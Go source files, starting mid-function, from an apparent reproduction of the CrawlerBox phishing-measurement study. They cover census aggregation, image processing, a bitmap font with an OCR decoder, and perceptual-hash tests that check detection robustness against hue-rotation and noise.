			s.hosts[ma.Landing.Host] = idx
		}
	}

	if ma.Outcome != crawlerbox.OutcomeActivePhish {
		return
	}
	// Spear-phishing shares (Section V-A).
	s.active++
	if ma.SpearPhish {
		s.spear++
		if ma.HotLoadsRef || hotLoads(ma) {
			s.hotLoad++
		}
	}
	s.cred++
	if ma.Cloaks.Turnstile {
		s.turnstile++
	}
	if ma.Cloaks.ReCaptcha {
		s.recaptcha++
	}
	if ma.Landing == nil {
		return
	}
	// The distinct-URL count (Table: landing page census) is defined over
	// full URLs; growth is bounded by the active-phish population, which the
	// corpus spec caps well below the message count.
	//cblint:ignore hotalloc distinct-URL census requires the full URL key; bounded by active-phish population
	s.landingURLs[ma.Landing.URL] = true

	g := s.groups[ma.Landing.Registrable]
	if g == nil {
		g = &groupCell{regIdx: -1, certIdx: -1, firstIdx: idx, brandIdx: -1}
		g.setFirst(ma)
		s.groups[ma.Landing.Registrable] = g
	} else if idx < g.firstIdx {
		g.firstIdx = idx
		g.setFirst(ma)
	}
	g.count++
	g.sumUnix += ma.AnalyzedAt.Unix()
	if ma.Landing.Whois != nil && idx > g.regIdx {
		g.regIdx = idx
		g.reg = ma.Landing.Whois.Registered
	}
	if ma.Landing.Cert != nil && idx > g.certIdx {
		g.certIdx = idx
		g.cert = ma.Landing.Cert.IssuedAt
	}
	if !ma.SpearPhish && (g.brandIdx < 0 || idx < g.brandIdx) {
		g.brandIdx = idx
		g.brandBucket = brandOfTitle(landingTitle(ma))
	}
}

// setFirst records the DNS anchor fields from the group's (new) lowest-
// indexed analysis.
func (g *groupCell) setFirst(ma *crawlerbox.MessageAnalysis) {
	g.firstSkipDNS = ma.Landing.Whois != nil &&
		ma.Landing.Whois.Provenance != whois.ProvenanceFresh
	g.firstDNSTotal = ma.Landing.DNS30DayTotal
	g.firstDNSMax = ma.Landing.DNSMaxDaily
}

// Merge folds o into s. It is commutative and associative, and a fresh
// shard is its identity: every constituent is a sum, a set union, or an
// index-pinned min/max, so the result is independent of how the messages
// were partitioned and in which order partials merge.
func (s *CensusShard) Merge(o *CensusShard) {
	if o == nil {
		return
	}
	if o.minIdx >= 0 && (s.minIdx < 0 || o.minIdx < s.minIdx) {
		s.minIdx = o.minIdx
	}
	s.total += o.total
	//cblint:ignore maprange per-key counter addition is order-independent
	for k, v := range o.outcomeCounts {
		s.outcomeCounts[k] += v
	}
	//cblint:ignore maprange per-key counter addition is order-independent
	for k, v := range o.cloakCounts {
		s.cloakCounts[k] += v
	}
	//cblint:ignore maprange per-key min is order-independent
	for h, i := range o.hosts {
		if j, ok := s.hosts[h]; !ok || i < j {
			s.hosts[h] = i
		}
	}
	//cblint:ignore maprange set union is order-independent
	for u := range o.landingURLs {
		s.landingURLs[u] = true
	}
	s.active += o.active
	s.spear += o.spear
	s.hotLoad += o.hotLoad
	s.cred += o.cred
	s.turnstile += o.turnstile
	s.recaptcha += o.recaptcha
	for i := range s.monthly {
		s.monthly[i] += o.monthly[i]
	}
	//cblint:ignore maprange per-key cell merge is order-independent
	for k, og := range o.groups {
		g := s.groups[k]
		if g == nil {
			cp := *og
			s.groups[k] = &cp
			continue
		}
		g.count += og.count
		g.sumUnix += og.sumUnix
		if og.regIdx > g.regIdx {
			g.regIdx, g.reg = og.regIdx, og.reg
		}
		if og.certIdx > g.certIdx {
			g.certIdx, g.cert = og.certIdx, og.cert
		}
		if og.firstIdx < g.firstIdx {
			g.firstIdx = og.firstIdx
			g.firstSkipDNS = og.firstSkipDNS
			g.firstDNSTotal = og.firstDNSTotal
			g.firstDNSMax = og.firstDNSMax
		}
		if og.brandIdx >= 0 && (g.brandIdx < 0 || og.brandIdx < g.brandIdx) {
			g.brandIdx, g.brandBucket = og.brandIdx, og.brandBucket
		}
	}
}

// finalize derives the memoized census from the fully merged shard. The
// derivations replicate the legacy single-pass buildCensus byte-for-byte
// (asserted by report_equiv_test.go).
func (s *CensusShard) finalize() *census {
	c := &census{monthly: s.monthly}

	// Landing hosts in first-seen (ascending message index) order.
	type hostIdx struct {
		host string
		idx  int
	}
	byIdx := make([]hostIdx, 0, len(s.hosts))
	//cblint:ignore maprange collected then sorted by message index
	for h, i := range s.hosts {
		byIdx = append(byIdx, hostIdx{h, i})
	}
	sort.Slice(byIdx, func(i, j int) bool { return byIdx[i].idx < byIdx[j].idx })
	hosts := make([]string, len(byIdx))
	for i, hi := range byIdx {
		hosts[i] = hi.host
	}

	// Deterministic iteration order over the landing-domain groups.
	groupKeys := make([]string, 0, len(s.groups))
	//cblint:ignore maprange collected then sorted
	for k := range s.groups {
		groupKeys = append(groupKeys, k)
	}
	sort.Strings(groupKeys)

	brandCounts := map[string]int{}
	for _, k := range groupKeys {
		if g := s.groups[k]; g.brandIdx >= 0 {
			brandCounts[g.brandBucket]++
		}
	}

	c.disposition = dispositionRows(s.outcomeCounts, s.total)
	c.table2 = urlx.TLDDistribution(hosts)
	c.figure3, c.figure3Err = timelineStats(s.groups, groupKeys)
	c.spear = spearStats(s.active, s.spear, s.hotLoad, len(s.landingURLs), s.groups, groupKeys)
	c.dns = dnsStats(s.groups, groupKeys)
	c.syntax = syntaxStats(hosts)
	c.cloaks = cloakRows(s.cloakCounts)
	c.brands = brandRows(brandCounts)
	if s.cred > 0 {
		c.turnstilePct = 100 * float64(s.turnstile) / float64(s.cred)
		c.recaptchaPct = 100 * float64(s.recaptcha) / float64(s.cred)
	}
	return c
}
