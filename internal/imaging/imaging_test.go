package imaging

import (
	"math/rand"
	"strings"
	"testing"
	"testing/quick"

	"crawlerbox/internal/stats"
)

func TestNewAndBounds(t *testing.T) {
	img, err := New(10, 5, White)
	if err != nil {
		t.Fatal(err)
	}
	if img.W != 10 || img.H != 5 || len(img.Pix) != 50 {
		t.Fatalf("unexpected geometry: %dx%d len=%d", img.W, img.H, len(img.Pix))
	}
	if !img.In(0, 0) || !img.In(9, 4) || img.In(10, 0) || img.In(0, 5) || img.In(-1, 0) {
		t.Error("In() bounds incorrect")
	}
	if img.At(100, 100) != White {
		t.Error("out-of-bounds At should return White")
	}
	img.Set(100, 100, Black) // must not panic
}

func TestNewRejectsBadDimensions(t *testing.T) {
	for _, dims := range [][2]int{{0, 5}, {5, 0}, {-1, 5}} {
		if _, err := New(dims[0], dims[1], White); err == nil {
			t.Errorf("New(%d, %d) should error", dims[0], dims[1])
		}
	}
}

func TestSetAtRoundTrip(t *testing.T) {
	img := MustNew(4, 4, White)
	img.Set(2, 3, RGB{10, 20, 30})
	if got := img.At(2, 3); got != (RGB{10, 20, 30}) {
		t.Errorf("At(2,3) = %+v", got)
	}
}

func TestFillRectClips(t *testing.T) {
	img := MustNew(4, 4, White)
	img.FillRect(-5, -5, 2, 2, Black)
	if img.At(0, 0) != Black || img.At(1, 1) != Black {
		t.Error("FillRect did not fill in-bounds region")
	}
	if img.At(2, 2) != White {
		t.Error("FillRect overfilled")
	}
}

func TestCloneIndependence(t *testing.T) {
	img := MustNew(3, 3, White)
	cp := img.Clone()
	cp.Set(1, 1, Black)
	if img.At(1, 1) != White {
		t.Error("Clone shares pixel storage")
	}
	if !img.Equal(img.Clone()) {
		t.Error("clone should equal original")
	}
}

func TestGray(t *testing.T) {
	img := MustNew(1, 1, RGB{255, 255, 255})
	if g := img.Gray(0, 0); g < 254.9 || g > 255.1 {
		t.Errorf("white gray = %v, want 255", g)
	}
	img.Set(0, 0, Black)
	if g := img.Gray(0, 0); g != 0 {
		t.Errorf("black gray = %v, want 0", g)
	}
}

func TestResizePreservesFlatColor(t *testing.T) {
	img := MustNew(16, 16, RGB{100, 150, 200})
	small, err := img.Resize(4, 4)
	if err != nil {
		t.Fatal(err)
	}
	for i, p := range small.Pix {
		if p != (RGB{100, 150, 200}) {
			t.Fatalf("pixel %d = %+v after resize of flat image", i, p)
		}
	}
	if _, err := img.Resize(0, 4); err == nil {
		t.Error("Resize(0,4) should error")
	}
}

func TestCrop(t *testing.T) {
	img := MustNew(10, 10, White)
	img.Set(5, 5, Black)
	sub, err := img.Crop(4, 4, 8, 8)
	if err != nil {
		t.Fatal(err)
	}
	if sub.W != 4 || sub.H != 4 {
		t.Fatalf("crop dims = %dx%d", sub.W, sub.H)
	}
	if sub.At(1, 1) != Black {
		t.Error("cropped pixel content wrong")
	}
	if _, err := img.Crop(5, 5, 5, 9); err == nil {
		t.Error("empty crop should error")
	}
}

func TestHueRotateZeroIsIdentity(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	img := MustNew(8, 8, White)
	img.AddNoise(rng, 80)
	cp := img.Clone()
	cp.HueRotate(0)
	// Rounding can nudge values by at most 1.
	for i := range img.Pix {
		if absDiff(img.Pix[i].R, cp.Pix[i].R) > 1 ||
			absDiff(img.Pix[i].G, cp.Pix[i].G) > 1 ||
			absDiff(img.Pix[i].B, cp.Pix[i].B) > 1 {
			t.Fatalf("HueRotate(0) changed pixel %d: %+v -> %+v", i, img.Pix[i], cp.Pix[i])
		}
	}
}

func TestHueRotateChangesChromaNotLuma(t *testing.T) {
	img := MustNew(1, 1, RGB{200, 40, 40})
	before := img.Gray(0, 0)
	img.HueRotate(90)
	after := img.Gray(0, 0)
	if img.At(0, 0) == (RGB{200, 40, 40}) {
		t.Error("HueRotate(90) left a saturated pixel unchanged")
	}
	if diff := before - after; diff > 40 || diff < -40 {
		t.Errorf("luma moved too much: %v -> %v", before, after)
	}
}

func TestAddNoiseStaysInRange(t *testing.T) {
	rng := rand.New(rand.NewSource(2))
	img := MustNew(16, 16, RGB{250, 5, 128})
	img.AddNoise(rng, 20)
	// All values are valid uint8 by construction; just ensure mutation.
	var changed bool
	for _, p := range img.Pix {
		if p != (RGB{250, 5, 128}) {
			changed = true
			break
		}
	}
	if !changed {
		t.Error("AddNoise changed nothing")
	}
	cp := img.Clone()
	img.AddNoise(rng, 0)
	if !img.Equal(cp) {
		t.Error("AddNoise(0) must be a no-op")
	}
}

func TestDrawTextAndWidth(t *testing.T) {
	img := MustNew(200, 20, White)
	n := DrawText(img, 2, 2, "HELLO", Black)
	if n != 5 {
		t.Errorf("drew %d glyphs, want 5", n)
	}
	if TextWidth("HELLO") != 5*AdvanceX-GlyphGap {
		t.Errorf("TextWidth = %d", TextWidth("HELLO"))
	}
	if TextWidth("") != 0 {
		t.Error("TextWidth of empty string should be 0")
	}
	// Some ink must exist.
	var ink int
	for _, p := range img.Pix {
		if p == Black {
			ink++
		}
	}
	if ink == 0 {
		t.Error("DrawText produced no ink")
	}
}

// TestOCRMalformedRaster is the regression for the taintflow finding: an
// image whose Pix disagrees with W*H (reachable from hostile CBI bytes via
// the parse path) must return nothing, not size a buffer from the bad W*H.
func TestOCRMalformedRaster(t *testing.T) {
	for _, img := range []*Image{
		nil,
		{W: 10, H: 7, Pix: nil},
		{W: 10, H: 7, Pix: make([]RGB, 69)},
		{W: -3, H: 7, Pix: make([]RGB, 21)},
	} {
		if got := OCR(img, 0.9); got != nil {
			t.Errorf("OCR on malformed raster %+v = %q, want nil", img, got)
		}
	}
}

func TestOCRRoundTrip(t *testing.T) {
	tests := []string{
		"HELLO WORLD",
		"HTTPS://EVIL-SITE.COM/DHFYWFH",
		"SIGN IN TO YOUR ACCOUNT",
		"HTTP://A.B.C/X?Q=1&Z=2#F",
		"USER@EXAMPLE.COM",
		"0123456789",
	}
	for _, text := range tests {
		t.Run(text, func(t *testing.T) {
			img := MustNew(TextWidth(text)+8, GlyphH+8, White)
			DrawText(img, 4, 4, text, Black)
			lines := OCR(img, 0.95)
			if len(lines) != 1 || lines[0] != text {
				t.Errorf("OCR = %q, want [%q]", lines, text)
			}
		})
	}
}

func TestOCRLowercaseNormalizes(t *testing.T) {
	img := MustNew(300, 20, White)
	DrawText(img, 4, 4, "https://evil.com", Black)
	lines := OCR(img, 0.95)
	if len(lines) != 1 || lines[0] != "HTTPS://EVIL.COM" {
		t.Errorf("OCR = %q, want uppercase round-trip", lines)
	}
}

func TestOCRMultiline(t *testing.T) {
	img := MustNew(300, 60, White)
	DrawText(img, 4, 4, "LINE ONE\nHTTPS://X.COM/A", Black)
	lines := OCR(img, 0.95)
	if len(lines) != 2 {
		t.Fatalf("OCR lines = %q, want 2", lines)
	}
	if lines[0] != "LINE ONE" || lines[1] != "HTTPS://X.COM/A" {
		t.Errorf("OCR = %q", lines)
	}
}

func TestOCRWithNoise(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	text := "HTTPS://PHISH.RU/TOKEN"
	img := MustNew(TextWidth(text)+10, GlyphH+10, White)
	DrawText(img, 5, 5, text, Black)
	img.AddNoise(rng, 40) // well below the binarization threshold
	lines := OCR(img, 0.9)
	if len(lines) != 1 || lines[0] != text {
		t.Errorf("noisy OCR = %q, want [%q]", lines, text)
	}
}

func TestOCREmptyImage(t *testing.T) {
	img := MustNew(50, 20, White)
	if lines := OCR(img, 0.9); len(lines) != 0 {
		t.Errorf("OCR of blank image = %q, want none", lines)
	}
}

// renderFakeLoginPage draws a deterministic synthetic login page used by the
// hash robustness tests; variant changes the header text and layout slightly.
func renderFakeLoginPage(brand string, accent RGB) *Image {
	img := MustNew(256, 192, White)
	img.FillRect(0, 0, 256, 28, accent)
	DrawText(img, 8, 10, brand, White)
	img.FillRect(48, 60, 208, 76, RGB{230, 230, 230})
	DrawText(img, 52, 64, "EMAIL", Black)
	img.FillRect(48, 90, 208, 106, RGB{230, 230, 230})
	DrawText(img, 52, 94, "PASSWORD", Black)
	img.FillRect(48, 120, 208, 140, accent)
	DrawText(img, 104, 126, "SIGN IN", White)
	return img
}

func TestPHashIdenticalImages(t *testing.T) {
	a := renderFakeLoginPage("ACME TRAVEL", RGB{20, 60, 160})
	b := renderFakeLoginPage("ACME TRAVEL", RGB{20, 60, 160})
	if PHash(a) != PHash(b) || DHash(a) != DHash(b) {
		t.Error("identical renders must hash identically")
	}
}

func TestHashesRobustToHueRotate(t *testing.T) {
	// The paper's finding: hue-rotate(4deg) does not defeat grayscale fuzzy
	// hashes. Distances must stay within the matcher thresholds.
	a := renderFakeLoginPage("ACME TRAVEL", RGB{20, 60, 160})
	b := a.Clone()
	b.HueRotate(4)
	m := DefaultMatcher()
	ok, dp, dd := m.Match(Sign(a), Sign(b))
	if !ok {
		t.Errorf("hue-rotate(4deg) broke the match: pHash dist=%d dHash dist=%d", dp, dd)
	}
}

func TestHashesRobustToNoiseAndScale(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	a := renderFakeLoginPage("ACME TRAVEL", RGB{20, 60, 160})
	noisy := a.Clone()
	noisy.AddNoise(rng, 12)
	scaled, err := a.Resize(200, 150)
	if err != nil {
		t.Fatal(err)
	}
	m := DefaultMatcher()
	if ok, dp, dd := m.Match(Sign(a), Sign(noisy)); !ok {
		t.Errorf("noise broke match: pHash=%d dHash=%d", dp, dd)
	}
	if ok, dp, dd := m.Match(Sign(a), Sign(scaled)); !ok {
		t.Errorf("scaling broke match: pHash=%d dHash=%d", dp, dd)
	}
}

func TestHashesDistinguishDifferentPages(t *testing.T) {
	login := renderFakeLoginPage("ACME TRAVEL", RGB{20, 60, 160})
	other := MustNew(256, 192, White)
	// A totally different layout: dark page with scattered blocks.
	other.FillRect(0, 0, 256, 192, RGB{30, 30, 30})
	other.FillRect(10, 10, 60, 180, White)
	other.FillRect(200, 20, 250, 90, RGB{200, 0, 0})
	DrawText(other, 80, 90, "404 NOT FOUND", White)
	m := DefaultMatcher()
	if ok, dp, dd := m.Match(Sign(login), Sign(other)); ok {
		t.Errorf("distinct pages matched: pHash=%d dHash=%d", dp, dd)
	}
}

func TestFuzzyMatcherThresholdBehavior(t *testing.T) {
	m := FuzzyMatcher{PHashMax: 0, DHashMax: 0}
	a := Signature{PHash: 1, DHash: 1}
	b := Signature{PHash: 1, DHash: 1}
	if ok, _, _ := m.Match(a, b); !ok {
		t.Error("zero-distance signatures must match at zero thresholds")
	}
	c := Signature{PHash: 3, DHash: 1} // 1 bit apart on pHash
	if ok, _, _ := m.Match(a, c); ok {
		t.Error("1-bit pHash difference must fail a zero threshold")
	}
}

func TestSignatureDistancesSymmetric(t *testing.T) {
	f := func(p1, d1, p2, d2 uint64) bool {
		a := Signature{PHash: p1, DHash: d1}
		b := Signature{PHash: p2, DHash: d2}
		m := DefaultMatcher()
		ok1, dp1, dd1 := m.Match(a, b)
		ok2, dp2, dd2 := m.Match(b, a)
		return ok1 == ok2 && dp1 == dp2 && dd1 == dd2
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestPHashBitCountSanity(t *testing.T) {
	// By median thresholding, roughly half of the 63 AC bits should be set
	// for a non-degenerate image.
	img := renderFakeLoginPage("ACME TRAVEL", RGB{20, 60, 160})
	h := PHash(img)
	n := stats.HammingDistance64(h, 0)
	if n < 20 || n > 44 {
		t.Errorf("pHash popcount = %d, want ~31", n)
	}
}

func TestOCRRecoversURLForPipeline(t *testing.T) {
	// End-to-end shape check: a rendered URL must survive OCR and remain
	// recognizable as a URL after lowercasing (the parser lowercases hosts).
	text := "HTTPS://LOGIN-VERIFY.BUZZ/ABC123"
	img := MustNew(TextWidth(text)+10, 40, White)
	DrawText(img, 5, 12, text, Black)
	lines := OCR(img, 0.93)
	if len(lines) != 1 {
		t.Fatalf("OCR lines = %v", lines)
	}
	if !strings.HasPrefix(strings.ToLower(lines[0]), "https://") {
		t.Errorf("recovered text %q is not a URL", lines[0])
	}
}

func absDiff(a, b uint8) int {
	if a > b {
		return int(a - b)
	}
	return int(b - a)
}
