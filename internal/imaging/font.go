package imaging

import (
	"math/bits"
	"sort"
	"strings"
)

// Glyph metrics for the built-in 5x7 bitmap font.
const (
	GlyphW   = 5
	GlyphH   = 7
	GlyphGap = 1
	// AdvanceX is the horizontal distance between glyph origins.
	AdvanceX = GlyphW + GlyphGap
	// LineH is the vertical distance between line origins.
	LineH = GlyphH + 2
)

// _font maps supported characters to 7 rows of 5 bits (MSB = leftmost
// pixel). The repertoire covers URLs and the Latin text that phishing lures
// and login pages contain; lowercase input is rendered with the uppercase
// glyphs, mirroring OCR case-insensitivity.
var _font = map[rune][GlyphH]uint8{
	'A': {0b01110, 0b10001, 0b10001, 0b11111, 0b10001, 0b10001, 0b10001},
	'B': {0b11110, 0b10001, 0b10001, 0b11110, 0b10001, 0b10001, 0b11110},
	'C': {0b01110, 0b10001, 0b10000, 0b10000, 0b10000, 0b10001, 0b01110},
	'D': {0b11100, 0b10010, 0b10001, 0b10001, 0b10001, 0b10010, 0b11100},
	'E': {0b11111, 0b10000, 0b10000, 0b11110, 0b10000, 0b10000, 0b11111},
	'F': {0b11111, 0b10000, 0b10000, 0b11110, 0b10000, 0b10000, 0b10000},
	'G': {0b01110, 0b10001, 0b10000, 0b10111, 0b10001, 0b10001, 0b01111},
	'H': {0b10001, 0b10001, 0b10001, 0b11111, 0b10001, 0b10001, 0b10001},
	'I': {0b01110, 0b00100, 0b00100, 0b00100, 0b00100, 0b00100, 0b01110},
	'J': {0b00111, 0b00010, 0b00010, 0b00010, 0b00010, 0b10010, 0b01100},
	'K': {0b10001, 0b10010, 0b10100, 0b11000, 0b10100, 0b10010, 0b10001},
	'L': {0b10000, 0b10000, 0b10000, 0b10000, 0b10000, 0b10000, 0b11111},
	'M': {0b10001, 0b11011, 0b10101, 0b10101, 0b10001, 0b10001, 0b10001},
	'N': {0b10001, 0b11001, 0b10101, 0b10011, 0b10001, 0b10001, 0b10001},
	'O': {0b01110, 0b10001, 0b10001, 0b10001, 0b10001, 0b10001, 0b01110},
	'P': {0b11110, 0b10001, 0b10001, 0b11110, 0b10000, 0b10000, 0b10000},
	'Q': {0b01110, 0b10001, 0b10001, 0b10001, 0b10101, 0b10010, 0b01101},
	'R': {0b11110, 0b10001, 0b10001, 0b11110, 0b10100, 0b10010, 0b10001},
	'S': {0b01111, 0b10000, 0b10000, 0b01110, 0b00001, 0b00001, 0b11110},
	'T': {0b11111, 0b00100, 0b00100, 0b00100, 0b00100, 0b00100, 0b00100},
	'U': {0b10001, 0b10001, 0b10001, 0b10001, 0b10001, 0b10001, 0b01110},
	'V': {0b10001, 0b10001, 0b10001, 0b10001, 0b10001, 0b01010, 0b00100},
	'W': {0b10001, 0b10001, 0b10001, 0b10101, 0b10101, 0b11011, 0b10001},
	'X': {0b10001, 0b10001, 0b01010, 0b00100, 0b01010, 0b10001, 0b10001},
	'Y': {0b10001, 0b10001, 0b01010, 0b00100, 0b00100, 0b00100, 0b00100},
	'Z': {0b11111, 0b00001, 0b00010, 0b00100, 0b01000, 0b10000, 0b11111},
	'0': {0b01110, 0b10011, 0b10101, 0b10101, 0b10101, 0b11001, 0b01110},
	'1': {0b00100, 0b01100, 0b00100, 0b00100, 0b00100, 0b00100, 0b01110},
	'2': {0b01110, 0b10001, 0b00001, 0b00010, 0b00100, 0b01000, 0b11111},
	'3': {0b11111, 0b00010, 0b00100, 0b00010, 0b00001, 0b10001, 0b01110},
	'4': {0b00010, 0b00110, 0b01010, 0b10010, 0b11111, 0b00010, 0b00010},
	'5': {0b11111, 0b10000, 0b11110, 0b00001, 0b00001, 0b10001, 0b01110},
	'6': {0b00110, 0b01000, 0b10000, 0b11110, 0b10001, 0b10001, 0b01110},
	'7': {0b11111, 0b00001, 0b00010, 0b00100, 0b01000, 0b01000, 0b01000},
	'8': {0b01110, 0b10001, 0b10001, 0b01110, 0b10001, 0b10001, 0b01110},
	'9': {0b01110, 0b10001, 0b10001, 0b01111, 0b00001, 0b00010, 0b01100},
	':': {0b00000, 0b00100, 0b00100, 0b00000, 0b00100, 0b00100, 0b00000},
	'/': {0b00001, 0b00001, 0b00010, 0b00100, 0b01000, 0b10000, 0b10000},
	'.': {0b00000, 0b00000, 0b00000, 0b00000, 0b00000, 0b01100, 0b01100},
	'-': {0b00000, 0b00000, 0b00000, 0b11111, 0b00000, 0b00000, 0b00000},
	'_': {0b00000, 0b00000, 0b00000, 0b00000, 0b00000, 0b00000, 0b11111},
	'?': {0b01110, 0b10001, 0b00001, 0b00010, 0b00100, 0b00000, 0b00100},
	'=': {0b00000, 0b00000, 0b11111, 0b00000, 0b11111, 0b00000, 0b00000},
	'&': {0b01100, 0b10010, 0b10100, 0b01000, 0b10101, 0b10010, 0b01101},
	'#': {0b01010, 0b01010, 0b11111, 0b01010, 0b11111, 0b01010, 0b01010},
	'%': {0b11001, 0b11001, 0b00010, 0b00100, 0b01000, 0b10011, 0b10011},
	'@': {0b01110, 0b10001, 0b10111, 0b10101, 0b10111, 0b10000, 0b01110},
	'!': {0b00100, 0b00100, 0b00100, 0b00100, 0b00100, 0b00000, 0b00100},
	',': {0b00000, 0b00000, 0b00000, 0b00000, 0b01100, 0b00100, 0b01000},
	'[': {0b01110, 0b01000, 0b01000, 0b01000, 0b01000, 0b01000, 0b01110},
	']': {0b01110, 0b00010, 0b00010, 0b00010, 0b00010, 0b00010, 0b01110},
	'+': {0b00000, 0b00100, 0b00100, 0b11111, 0b00100, 0b00100, 0b00000},
	'~': {0b00000, 0b00000, 0b01000, 0b10101, 0b00010, 0b00000, 0b00000},
}

// SupportsRune reports whether the font can render r (after upper-casing).
func SupportsRune(r rune) bool {
	if r == ' ' {
		return true
	}
	_, ok := _font[normalizeRune(r)]
	return ok
}

func normalizeRune(r rune) rune {
	if r >= 'a' && r <= 'z' {
		return r - 'a' + 'A'
	}
	return r
}

// DrawText renders text at origin (x, y) in the given ink color, one glyph
// per AdvanceX, handling '\n' as a line break. Unsupported runes render as
// blank space. It returns the number of glyphs drawn (excluding spaces).
func DrawText(img *Image, x, y int, text string, ink RGB) int {
	cx, cy := x, y
	var drawn int
	for _, r := range text {
		if r == '\n' {
			cx = x
			cy += LineH
			continue
		}
		if r == ' ' {
			cx += AdvanceX
			continue
		}
		glyph, ok := _font[normalizeRune(r)]
		if !ok {
			cx += AdvanceX
			continue
		}
		for row := 0; row < GlyphH; row++ {
			bitsRow := glyph[row]
			for col := 0; col < GlyphW; col++ {
				if bitsRow&(1<<(GlyphW-1-col)) != 0 {
					img.Set(cx+col, cy+row, ink)
				}
			}
		}
		drawn++
		cx += AdvanceX
	}
	return drawn
}

// TextWidth returns the pixel width of a single-line string.
func TextWidth(text string) int {
	n := len([]rune(text))
	if n == 0 {
		return 0
	}
	return n*AdvanceX - GlyphGap
}

// packedGlyph is a glyph's 35 ink bits packed into a uint64 (row-major,
// bit 0 = top-left).
type packedGlyph struct {
	r    rune
	mask uint64
	ink  int
}

func packedFont() []packedGlyph {
	out := make([]packedGlyph, 0, len(_font))
	for r, glyph := range _font {
		var mask uint64
		bit := 0
		for row := 0; row < GlyphH; row++ {
			for col := 0; col < GlyphW; col++ {
				if glyph[row]&(1<<(GlyphW-1-col)) != 0 {
					mask |= 1 << uint(bit)
				}
				bit++
			}
		}
		out = append(out, packedGlyph{r: r, mask: mask, ink: bits.OnesCount64(mask)})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].r < out[j].r })
	return out
}

// OCR decodes text rendered with DrawText back out of an image. It binarizes
// at a fixed luma threshold (dark = ink), locates glyph rows, and greedily
// matches glyphs whose ink overlaps a font glyph with Jaccard similarity of
// at least minScore. It returns the recovered lines, top to bottom.
//
// The decoder tolerates the additive noise and small photometric shifts that
// message images in the corpus carry, reproducing the role of the OCR
// libraries in the original CrawlerBox parsing phase.
func OCR(img *Image, minScore float64) []string {
	if minScore <= 0 || minScore > 1 {
		minScore = 0.9
	}
	// A decoded raster with inconsistent dimensions (hostile CBI input) must
	// not size the ink buffer; Gray trusts Pix to match W and H.
	if img == nil || img.W <= 0 || img.H <= 0 || len(img.Pix) != img.W*img.H {
		return nil
	}
	const darkThreshold = 128.0
	dark := make([]bool, img.W*img.H)
	for y := 0; y < img.H; y++ {
		for x := 0; x < img.W; x++ {
			dark[y*img.W+x] = img.Gray(x, y) < darkThreshold
		}
	}
	glyphs := packedFont()
	var lines []string
	y := 0
	for y <= img.H-GlyphH {
		line := decodeRow(img, dark, glyphs, y, minScore)
		if line == "" {
			y++
			continue
		}
		// A fragment of a glyph row can masquerade as a short line (e.g.
		// the top bar of 'T' decodes as '_'). Prefer the longest decode
		// within one glyph height of the anchor.
		bestY, best := y, line
		for yy := y + 1; yy <= min(y+GlyphH, img.H-GlyphH); yy++ {
			if l := decodeRow(img, dark, glyphs, yy, minScore); len(l) > len(best) {
				best, bestY = l, yy
			}
		}
		lines = append(lines, strings.TrimRight(best, " "))
		y = bestY + GlyphH // skip past the decoded band
	}
	return lines
}

// decodeRow returns the first plausible text run whose glyph tops sit at
// row y, or "" when none decodes.
func decodeRow(img *Image, dark []bool, glyphs []packedGlyph, y int, minScore float64) string {
	for x := 0; x <= img.W-GlyphW; x++ {
		r, score := matchGlyph(img, dark, glyphs, x, y)
		if score < minScore || r == 0 {
			continue
		}
		line := decodeRun(img, dark, glyphs, x, y, minScore)
		if len(strings.TrimSpace(line)) >= 2 {
			return line
		}
	}
	return ""
}

// decodeRun decodes a maximal run of glyphs starting at (x, y), stepping
// AdvanceX per glyph and tolerating short space gaps.
func decodeRun(img *Image, dark []bool, glyphs []packedGlyph, x, y int, minScore float64) string {
	var sb strings.Builder
	gaps := 0
	for cx := x; cx <= img.W-GlyphW; cx += AdvanceX {
		r, score := matchGlyph(img, dark, glyphs, cx, y)
		if score >= minScore && r != 0 {
			for i := 0; i < gaps; i++ {
				sb.WriteByte(' ')
			}
			gaps = 0
			sb.WriteRune(r)
			continue
		}
		if cellMask(img, dark, cx, y) == 0 {
			gaps++
			if gaps > 3 {
				break
			}
			continue
		}
		break
	}
	return sb.String()
}

// matchGlyph returns the font rune whose ink best overlaps the 5x7 cell at
// (x, y), scored by Jaccard similarity of the ink sets. Scoring overlap
// rather than pixel agreement prevents sparse glyphs such as '.' or '_'
// from matching arbitrary fragments.
func matchGlyph(img *Image, dark []bool, glyphs []packedGlyph, x, y int) (rune, float64) {
	cell := cellMask(img, dark, x, y)
	if cell == 0 {
		return 0, 0
	}
	cellInk := bits.OnesCount64(cell)
	bestRune := rune(0)
	bestScore := 0.0
	for _, g := range glyphs {
		inter := bits.OnesCount64(cell & g.mask)
		union := cellInk + g.ink - inter
		if union == 0 {
			continue
		}
		score := float64(inter) / float64(union)
		if score > bestScore {
			bestScore = score
			bestRune = g.r
		}
	}
	return bestRune, bestScore
}

// cellMask packs the 5x7 ink mask at (x, y) into a uint64.
func cellMask(img *Image, dark []bool, x, y int) uint64 {
	var mask uint64
	bit := 0
	for row := 0; row < GlyphH; row++ {
		base := (y + row) * img.W
		for col := 0; col < GlyphW; col++ {
			xx := x + col
			if xx < img.W && y+row < img.H && dark[base+xx] {
				mask |= 1 << uint(bit)
			}
			bit++
		}
	}
	return mask
}
