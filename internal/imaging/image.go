// Package imaging provides the image substrate for the CrawlerBox
// reproduction: an RGB raster type, geometric and photometric operations
// (bilinear scaling, cropping, additive noise, CSS-style hue rotation), a
// deterministic 5x7 bitmap font with a matching OCR decoder, and the two
// perceptual hashes the paper uses to classify spear-phishing screenshots
// (DCT-based pHash and difference-based dHash).
//
// The hue-rotation operation reproduces the client-side evasion found on 167
// phishing pages (Section V-C2d): a filter: hue-rotate(4deg) applied to the
// whole document to defeat visual-similarity detectors. Because both hashes
// operate on grayscale, the rotation leaves them essentially unchanged —
// exactly the robustness argument the paper makes for CrawlerBox.
package imaging

import (
	"errors"
	"fmt"
	"math"
	"math/rand"
)

// RGB is an 8-bit-per-channel color.
type RGB struct {
	R, G, B uint8
}

// Common colors used by page renderers.
var (
	White = RGB{255, 255, 255}
	Black = RGB{0, 0, 0}
)

// Image is a simple packed RGB raster.
type Image struct {
	W, H int
	Pix  []RGB
}

// ErrBadDimensions is returned when constructing an image with non-positive
// width or height.
var ErrBadDimensions = errors.New("imaging: width and height must be positive")

// New returns a w x h image filled with the given color.
func New(w, h int, fill RGB) (*Image, error) {
